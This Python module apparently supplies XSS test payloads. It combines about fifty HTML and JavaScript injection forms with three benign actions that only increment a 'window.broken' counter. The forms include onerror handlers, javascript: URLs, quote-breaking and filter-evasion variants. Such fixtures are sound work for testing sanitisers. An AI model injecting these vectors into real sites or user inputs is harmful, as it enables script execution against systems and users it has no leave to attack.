"""Texts that run a script where they are taken for anything but text."""

from typing import Final

_DO: Final = "window.broken=(window.broken||0)+1"
_ACTIONS: Final = (
    _DO,
    f"(0,eval)('{_DO}')",
    "parent[`bro`+`ken`]=(parent.broken||0)+1",
)
_FORMS: Final = (
    "<script>DO</script>",
    "<img src=x onerror=DO>",
    '<img src="x" onerror="DO">',
    "<svg onload=DO>",
    "<svg><script>DO</script></svg>",
    "<body onload=DO>",
    '<iframe srcdoc="<script>DO</script>"></iframe>',
    '<iframe src="javascript:DO"></iframe>',
    "<details open ontoggle=DO>x</details>",
    "<input autofocus onfocus=DO>",
    "<select autofocus onfocus=DO></select>",
    "<video><source onerror=DO></video>",
    "<audio src=x onerror=DO></audio>",
    "<marquee onstart=DO>x</marquee>",
    '<object data="javascript:DO"></object>',
    '<embed src="javascript:DO">',
    "<math><mtext><img src=x onerror=DO></mtext></math>",
    "<style>@keyframes a{}</style><p style=animation:a onanimationstart=DO>x</p>",
    "<template><img src=x onerror=DO></template>",
    "</title><img src=x onerror=DO>",
    "</textarea><svg/onload=DO>",
    "--><img src=x onerror=DO>",
    "]]><img src=x onerror=DO>",
    '"><img src=x onerror=DO>',
    "'><img src=x onerror=DO>",
    '" onmouseover=DO x="',
    "' onfocus=DO autofocus x='",
    "` onfocus=DO autofocus `",
    "</script><script>DO</script>",
    "</style><script>DO</script>",
    "javascript:DO",
    "JaVaScRiPt:DO",
    " javascript:DO",
    "java\tscript:DO",
    "data:text/html,<script>DO</script>",
    "vbscript:DO",
    "{{constructor.constructor('DO')()}}",
    "${DO}",
    "<img src=x onerror&#61;DO>",
    "&lt;img src=x onerror=DO&gt;",
    "<base href=javascript:DO//>",
    '<a href="javascript:DO">x</a>',
    '<form action="javascript:DO"><button>x</button></form>',
    "<link rel=stylesheet href=x onerror=DO>",
    '<meta http-equiv=refresh content="0;url=javascript:DO">',
    "<slot onslotchange=DO></slot><img slot=x src=x onerror=DO>",
    "\u202e<img src=x onerror=DO>",
    "<IMG SRC=x ONERROR=DO>",
    "<img/src=x/onerror=DO>",
    "<<script>DO//<</script>",
)


def payloads() -> list[str]:
    """At least a hundred of them, each form with each action."""
    return [form.replace("DO", action) for action in _ACTIONS for form in _FORMS]
